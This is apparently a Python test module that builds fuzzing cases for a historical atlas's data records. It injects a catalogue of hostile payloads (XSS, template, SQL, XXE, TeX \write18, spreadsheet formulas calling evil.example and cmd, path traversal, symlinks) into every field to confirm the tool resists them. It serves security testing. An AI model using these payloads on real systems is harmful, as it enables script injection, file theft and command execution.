"""Records that ask for what nobody wants: every text column with every kind of attack, and faulty files of each kind.

A case is a copy of the tiny sound record of ``tests/records`` with one thing changed. What it asks for is always one of
these: that a script runs (``pwned()``), that a canary file outside is read (its text is a token that nothing else has),
that a file is written outside, that something is asked of the network, or that the tool fails without a word.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache, partial
from pathlib import Path

import variants
from listings import WRITERS, broken_lists

from atlas.io.schema import bundled

RECORDS = Path(__file__).parent.parent / "records"
CANARY = "canary-7f3a91"
"""What the file outside says; found in an output, it has been read."""

ATTACKS = {
    "script": "<script>pwned()</script>",
    "image": '"><img src=x onerror="pwned()">',
    "vector": "<svg/onload=pwned()>'\"--></style></script><script>pwned()</script>",
    "link": "javascript:pwned()",
    "page": "data:text/html,<script>pwned()</script>",
    "request": "</style><style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/y)}",
    "template": "{{ pwned() }}{% include '../outside/canary.csv' %}${pwned()}#{pwned()}",
    "cdata": "]]><script>pwned()</script><![CDATA[ &xxe; $[name] %s%n",
    "entity": '<!DOCTYPE x [<!ENTITY xxe SYSTEM "../outside/canary.csv">]>&xxe;',
    "sql": "x\"); COPY (SELECT 1) TO '../outside/written.txt'; ATTACH '../outside/canary.csv' AS c; --",
    "tex": "} \\input{../outside/canary.csv} \\write18{touch ../outside/written} $\\frac{",
    "tags": "a\nER  - \nTY  - BOOK\n@misc{x, note={\t;\u2028",
    "turtle": 'a> <http://evil.example/p> "x" . <b> <c> <d',
    "formula": "=HYPERLINK(\"https://evil.example/?\"&A1)+cmd|'/c calc'!A0",
    "path": "../outside/canary.csv",
    "file": "file:///etc/hostname",
    "bidi": "abc\u202edcba\u2066\u200b\u2069",
    "control": "a\x00b\x1b[31mc\x07\x08",
    "prototype": "__proto__",
    "number": "9" * 25,
    "long": "long " * 20_000,
    "empty": "",
    "return": "a\rb\r\nc\nd",
    "day": "9999-24",
    "joined": "\ufeff=\u0430\u0301\U0001f469\u200d\U0001f680\u0378",
}
"""Text by kind. ``joined`` is not hostile, only odd; whatever does not hold the odd fails on it."""


PLAN = '[[map]]\nid = "atlas"\ntitle = "Map"\nlede = "One line"\nextent = [10, 38, 68, 62]\n'
"""A sound ``maps.toml``: what is at fault in a case is the case alone."""


LONG = {
    **{
        "letters": "a" * 200_000,
        "blanks": "a" + " " * 200_000 + "b",
        "braces": "{" * 100_000,
        "lines": "a\n" * 100_000,
    },
    **{"pairs": "a {x} " * 30_000, "years": "1961 " * 40_000, "days": "5 March " * 20_000, "marks": "- " * 100_000},
    **{"halves": "between 19" * 20_000, "ends": "}" * 100_000, "dashes": "1961-" * 30_000, "tabs": "\t\n" * 100_000},
}
"""Long stories of one thing, at which a careless pattern would try for ever."""


@dataclass(frozen=True)
class Case:
    """One input: its name, the file at fault, and the change made to a folder with the sound record."""

    name: str
    file: str
    change: Callable[[Path], None]
    whole: bool = False
    """Whether it goes through the slow steps too (a build, the big formats, hands in the browser)."""
    listed: bool = False
    """Whether it is a list of one's own instead of a record: the file, alone in its folder."""


def make(case: Case, folder: Path) -> None:
    """Lay out a case: the sound record, with the change. All but the whole ones have borders of their own, few and
    square: to read the whole world two thousand times would be most of the work, and tells nothing more."""
    if case.listed:
        folder.mkdir()
        case.change(folder)
        return
    shutil.copytree(RECORDS / "sound", folder)
    (folder / "maps.toml").write_text(PLAN, encoding="utf-8")
    if not case.whole:
        (folder / "borders.geojson").write_text(_few_borders(), encoding="utf-8")
    case.change(folder)


@cache
def _few_borders() -> str:
    """The states around the two things of the sound record, as boxes, with their true spans."""
    from shapely.geometry import MultiPoint, Point, box, mapping

    from atlas.record.borders import read_borders

    places = [Point(14.41594, 50.09445), Point(44.4976, 48.71378)]
    kept = read_borders(bundled_file("borders.geojson"))
    kept = kept[kept.intersects(MultiPoint(places))]
    features = []
    for row in kept.itertuples():
        x, y = next((place.x, place.y) for place in places if row.geometry.intersects(place))
        spans = {"valid_from": row.valid_from, "valid_to": row.valid_to}
        days = {name: None if day != day else day.date().isoformat() for name, day in spans.items()}
        properties = {"polity": row.polity, "level": row.level, **days}
        shape = mapping(box(x - 2, y - 2, x + 2, y + 2))
        features.append({"type": "Feature", "properties": properties, "geometry": shape})
    return json.dumps({"type": "FeatureCollection", "features": features})


def cells() -> Iterator[Case]:
    """Every column of every table with every attack, in all its rows."""
    for name, table in bundled().tables.items():
        for column in table.columns:
            for kind, text in ATTACKS.items():
                yield Case(f"{table.path}:{column}:{kind}", table.path, partial(_cell, name, [column], text))


def storms() -> Iterator[Case]:
    """Every attack in all the columns of free text at once, and in the descriptor: what loads, and goes everywhere."""
    free = {
        "features": ["title", "settlement", "polity", "note"],
        "names": ["name", "latin"],
        "events": ["detail"],
        "attestations": ["says", "locator"],
        "sources": ["title", "author", "publisher", "url", "copy"],
        "milestones": ["title", "summary", "place"],
        "wanted": ["title", "believed", "missing"],
        "kinds": ["label", "definition"],
        "event_types": ["label", "definition"],
    }
    plain = {
        table: [name for name in names if name not in ("latin", "url", "settlement", "polity")]
        for table, names in free.items()
    }
    for kind, text in ATTACKS.items():
        yield Case(f"everywhere:{kind}", "features.csv", partial(_storm, free, text), whole=True)
        yield Case(f"site:{kind}", "features.csv", partial(_shower, plain, text), whole=True)


def descriptors() -> Iterator[Case]:
    """Every text of the descriptor with every attack, and descriptors that are none."""
    for key in ("title", "description", "version", "name", "homepage", "created", "id"):
        for kind, text in ATTACKS.items():
            yield Case(f"datapackage.json:{key}:{kind}", "datapackage.json", partial(_property, key, text))
    for kind in ("script", "link", "path", "sql", "control", "long"):
        text = ATTACKS[kind]
        for where in ("path", "name", "title", "column", "type", "pattern", "licence", "contributor"):
            yield Case(f"datapackage.json:its {where}:{kind}", "datapackage.json", partial(_resource, where, text))
    for number, text in enumerate(("", "[]", "null", "{", '{"resources": 5}', "[" * 50_000, '{"a": NaN}', "\udcff")):
        data = text.encode("utf-8", "surrogateescape")
        yield Case(f"datapackage.json:broken:{number}", "datapackage.json", partial(_write, "datapackage.json", data))


def plans() -> Iterator[Case]:
    """Every key of a plan with every attack and with values of another type, and plans that are none."""
    keys = ("id", "title", "lede", "filter", "extent", "projection", "frames", "first", "last", "start", "pace", "hub")
    values = [json.dumps(ATTACKS[kind], ensure_ascii=True) for kind in ("script", "path", "long", "number", "bidi")]
    for key in (*keys, "story", "streets", "unknown"):
        for number, value in enumerate([*values, "5", "-1e999", "[]", "{}", "true", '"9999-24"', "1925"]):
            text = "".join(line for line in PLAN.splitlines(True) if not line.startswith(f"{key} "))
            text = text.replace("[[map]]\n", f"[[map]]\n{key} = {value}\n")
            yield Case(f"maps.toml:{key}:{number}", "maps.toml", partial(_write, "maps.toml", text.encode()))
    odd = {"twice": PLAN * 2, "index": PLAN.replace("atlas", "index"), "nul": PLAN.replace("atlas", "con")}
    odd |= {"torn": "[[map", "none": "", "table": "map = 5\n", "sound": PLAN}
    for name, text in odd.items():
        yield Case(f"maps.toml:{name}", "maps.toml", partial(_write, "maps.toml", text.encode()))


def files() -> Iterator[Case]:
    """Files that are none: links that lead out, pipes, devices, folders, other formats, other encodings."""
    names = ("features.csv", "sources.csv", "maps.toml", "datapackage.json", "borders.geojson", "stories/atlas.md")
    for name in names:
        for kind in ("link", "zero", "pipe", "folder", "circle", "bytes", "empty", "wide"):
            yield Case(f"{name}:{kind}", name, partial(_odd_file, kind, name))
    drivers = {
        "vrt": "<OGRVRTDataSource><OGRVRTLayer name='canary'><SrcDataSource>../outside/canary.csv</SrcDataSource>"
        "</OGRVRTLayer></OGRVRTDataSource>",
        "wfs": "<OGRWFSDataSource><URL>http://127.0.0.1:9/wfs</URL></OGRWFSDataSource>",
        "curl": "/vsicurl/http://127.0.0.1:9/x.geojson",
        "csv": "id,WKT\n1,POINT (0 0)\n",
        "json": '{"type": "FeatureCollection", "features": [{"type": "Feature", "geometry": null, "properties": {}}]}',
        "deep": "[" * 100_000,
    }
    for name, text in drivers.items():
        yield Case(f"borders.geojson:{name}", "borders.geojson", partial(_write, "borders.geojson", text.encode()))
    for kind in ("script", "image", "link", "request", "bidi", "control", "path", "template"):
        text = f"# A story\n\n[a]({ATTACKS[kind]}) ![b]({ATTACKS[kind]}) {ATTACKS[kind]}\n"
        yield Case(f"stories/atlas.md:text:{kind}", "stories/atlas.md", partial(_story, text))
    for kind, text in LONG.items():
        yield Case(f"stories/atlas.md:many {kind}", "stories/atlas.md", partial(_story, text))


def listings() -> Iterator[Case]:
    """Lists in every format with every attack in all their texts and in a header, and lists that are none."""
    for form, write in WRITERS.items():
        few = form in ("list.tsv", "list.tab", "query.json", "list.kmz")  # whose readers are others', with another door
        for kind, text in list(ATTACKS.items())[:: 8 if few else 1]:
            yield Case(f"{form}:{kind}", form, partial(_list, write, form, text), listed=True)
    for name, form, data in broken_lists():
        yield Case(f"{form}:is {name}", form, partial(_write_made, form, data), listed=True)


def further() -> Iterator[Case]:
    """What an attacker tries next, by kind; what must be borne goes everywhere."""
    for one in variants.every():
        yield Case(f"further:{one.name}", one.file, one.change, whole=one.words is None)


def every() -> list[Case]:
    """All cases, in a fixed order."""
    return [*files(), *plans(), *descriptors(), *storms(), *listings(), *cells(), *further()]


def _cell(table: str, columns: list[str], text: str, folder: Path) -> None:
    path = folder / bundled().tables[table].path
    if not path.is_file():  # a vocabulary that the record leaves to the bundled one
        shutil.copy(Path(bundled_file(path.name)), path)
    with path.open(encoding="utf-8", newline="") as file:
        header, *rows = list(csv.reader(file))
    order = [column for column in bundled().tables[table].columns if column in {*header, *columns}]
    held = [dict(zip(header, row, strict=True)) | dict.fromkeys(columns, text) for row in rows]
    header, rows = order, [[row.get(column, "") for column in order] for row in held]  # some columns may be left out
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file, lineterminator="\r\n").writerows([header, *rows])


def bundled_file(name: str) -> Path:
    """A file of the bundled record."""
    from atlas.io.schema import bundled_path

    return bundled_path() / name


def _storm(columns: dict[str, list[str]], text: str, folder: Path) -> None:
    for table, names in columns.items():
        _cell(table, names, text, folder)
    for key in ("title", "description"):
        _property(key, text, folder)
    _story(f"# {text}\n\n{text}\n", folder)


def _shower(columns: dict[str, list[str]], text: str, folder: Path) -> None:
    """As a storm, but only where a sound record may have nearly any text, and no story: most of it is published."""
    for table, names in columns.items():
        _cell(table, names, text, folder)
    _property("title", text, folder)


def _descriptor(folder: Path) -> dict:
    path = folder / "datapackage.json"
    source = path if path.is_file() else bundled_file("datapackage.json")
    return json.loads(source.read_text(encoding="utf-8"))


def _property(key: str, text: str, folder: Path) -> None:
    descriptor = _descriptor(folder) | {key: text}
    _write("datapackage.json", json.dumps(descriptor).encode(), folder)


def _resource(where: str, text: str, folder: Path) -> None:
    descriptor = _descriptor(folder)
    table = descriptor["resources"][0]
    if where in ("path", "name", "title"):
        table[where] = text
    elif where == "column":
        table["schema"]["fields"].append({"name": text, "type": "string"})
        _add_column("features.csv", text, folder)
    elif where in ("type", "pattern"):
        field = table["schema"]["fields"][2]
        field |= {"type": text} if where == "type" else {"constraints": {"pattern": text}}
    elif where == "licence":
        descriptor["licenses"] = [{"name": text, "path": text, "title": text}]
    else:
        descriptor["contributors"] = [{"title": text, "path": text}]
    _write("datapackage.json", json.dumps(descriptor).encode(), folder)


def _add_column(name: str, column: str, folder: Path) -> None:
    with (folder / name).open(encoding="utf-8", newline="") as file:
        header, *rows = list(csv.reader(file))
    with (folder / name).open("w", encoding="utf-8", newline="") as file:
        csv.writer(file, lineterminator="\n").writerows([[*header, column], *[[*row, "x"] for row in rows]])


def _list(write: Callable[[Path, str], None], name: str, text: str, folder: Path) -> None:
    write(folder / name, text)


def _write_made(name: str, data: Callable[[], bytes], folder: Path) -> None:
    (folder / name).write_bytes(data())


def _write(name: str, data: bytes, folder: Path) -> None:
    (folder / name).parent.mkdir(exist_ok=True)
    (folder / name).write_bytes(data)


def _story(text: str, folder: Path) -> None:
    _write("stories/atlas.md", text.encode("utf-8"), folder)


def _odd_file(kind: str, name: str, folder: Path) -> None:
    path = folder / name
    path.parent.mkdir(exist_ok=True)
    path.unlink(missing_ok=True)
    if kind == "link":
        path.symlink_to(folder.parent / "outside" / "canary.csv")
    elif kind == "zero":
        path.symlink_to("/dev/zero")
    elif kind == "pipe":
        os.mkfifo(path)
    elif kind == "folder":
        path.mkdir()
    elif kind == "circle":
        path.symlink_to(path.name)
    elif kind == "wide":
        path.write_bytes(b",".join([b"x"] * 100_000) + b"\n")
    else:
        path.write_bytes(b"\xff\xfe\x00\xd8bytes" if kind == "bytes" else b"")
